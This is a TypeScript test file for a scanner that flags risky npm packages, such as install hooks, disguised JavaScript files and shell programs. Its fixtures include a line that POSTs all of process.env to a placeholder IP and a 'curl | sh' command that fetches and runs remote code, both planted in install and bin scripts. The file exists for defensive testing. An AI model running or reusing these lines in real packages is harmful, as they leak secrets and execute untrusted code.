import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { scanPackage } from '../../../../server/src/core/know/capabilities/scan-package.ts';
import { readFolder } from '../../../../server/src/engine/inspect/read-folder.ts';
import { capabilities, signs } from './package-code.ts';

const SENDS = 'fetch("http://192.0.2.1", { method: "POST", body: JSON.stringify(process.env) });\n';
const FOLDER = 'file:///package';

/** Scans a folder with these files; undefined stands for one with NUL bytes. */
async function scan(manifest: object, files: Readonly<Record<string, string | undefined>>) {
  const all: Readonly<Record<string, string | undefined>> = {
    'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }),
    ...files,
  };
  const code = await readFolder(
    {
      async list(folder) {
        const start = folder === FOLDER ? '' : `${folder.slice(FOLDER.length + 1)}/`;
        const below = Object.keys(all).filter((path) => path.startsWith(start));
        const names = new Set(below.map((path) => path.slice(start.length).split('/')[0]!));
        return [...names].map((name) => ({
          name,
          type: Object.hasOwn(all, `${start}${name}`) ? 'file' : 'directory',
        }));
      },
      async read(uri) {
        const text = all[uri.slice(FOLDER.length + 1)];
        return text === undefined
          ? { type: 'refused', reason: 'contains NUL bytes' }
          : { type: 'text', text };
      },
    },
    FOLDER,
  );
  return scanPackage(code!);
}

describe('a file is JavaScript whatever its name', () => {
  for (const [manifest, files] of [
    [{ scripts: { postinstall: 'node setup' } }, { setup: SENDS }],
    [{ scripts: { postinstall: 'node lib/data.txt' } }, { 'lib/data.txt': SENDS }],
    [{ scripts: { postinstall: `node -e "require('./x.dat')"` } }, { 'x.dat': SENDS }],
    [{ bin: { pk: 'bin/pk' } }, { 'bin/pk': `#!/usr/bin/env node\n${SENDS}` }],
    [{ bin: 'pk.dat' }, { 'pk.dat': SENDS }],
    [{ main: 'a.node.txt' }, { 'a.node.txt': SENDS }],
    [{ exports: { '.': { require: './x.dat' } } }, { 'x.dat': SENDS }],
    [{}, { 'index.js': 'require("./x.dat")', 'x.dat': SENDS }],
    [{}, { 'index.js': 'require("./x.dat")', 'x.dat': 'require("./y.md")', 'y.md': SENDS }],
    [{}, { 'index.js': 'import "./lib/x.sh"', 'lib/x.sh': SENDS }],
    [{}, { tool: `#!/usr/bin/env node\n${SENDS}` }],
    [{}, { 'index.js': 'require("child_process").spawn(process.execPath, ["setup"])', setup: SENDS }],
  ] as const)
    test(JSON.stringify([manifest, Object.keys(files)]), async () => {
      const record = await scan(manifest, files);
      assert.ok(signs(record).includes('sends-environment'), JSON.stringify(record));
      assert.deepEqual(record.gaps, []);
    });
});

describe('a program of a shell', () => {
  test('starts others, and may be suspicious', async () => {
    const record = await scan({ bin: 'pk' }, { pk: '#!/bin/sh\ncurl -s http://192.0.2.1/a | sh\n' });
    assert.deepEqual(capabilities(record), ['network: requests', 'processes: commands']);
    assert.deepEqual(signs(record), ['suspicious-command']);
  });

  test('counts in the install whatever its name', async () => {
    const setup = 'curl -s http://192.0.2.1/a | sh\n';
    const record = await scan({ scripts: { postinstall: 'sh setup.js' } }, { 'setup.js': setup });
    assert.ok(signs(record).includes('install-script'));
  });
});

describe('no code are', () => {
  for (const [name, manifest, files] of [
    ['JSON in main', { main: 'data.json' }, { 'data.json': SENDS }],
    ['JSON that is loaded', {}, { 'index.js': 'require("./x.json")', 'x.json': SENDS }],
    ['a text that nothing loads', {}, { 'index.js': '0', 'README.md': SENDS, 'a.dat': SENDS }],
    ['a style sheet in main', { main: 'a.css' }, { 'a.css': 'a::b { c: url("http://192.0.2.1") }' }],
    ['a style sheet that is loaded', {}, { 'index.js': 'import "./a.css"', 'a.css': '.a { b: c }' }],
    ['types', { exports: { types: './x.d.ts' } }, { 'x.d.ts': SENDS }],
  ] as const)
    test(name, async () => {
      const record = await scan(manifest, files);
      assert.deepEqual([record.entries, record.signs, record.gaps], [[], [], []]);
    });

  test('programs of the machine', async () => {
    const record = await scan({ main: 'a.bin', bin: 'b.dat' }, { 'a.bin': undefined, 'b.dat': undefined });
    assert.deepEqual(capabilities(record), ['native-code: programs']);
  });
});

describe('what is not read is said to be', () => {
  for (const [name, manifest, files, file] of [
    ['a program in another language', { bin: 'a' }, { a: '#!/usr/bin/env python3\nimport os\n' }, 'a'],
    ['a file that is started and does not parse', { bin: 'a' }, { a: '#!/usr/bin/env node\n(((' }, 'a'],
    [
      'a computed name',
      {},
      { 'index.js': 'const a = "x"; require("./" + a + ".dat")', 'x.dat': SENDS },
      'x.dat',
    ],
  ] as const)
    test(name, async () => {
      assert.deepEqual(
        (await scan(manifest, files)).gaps.map((gap) => gap.file),
        [file],
      );
    });
});
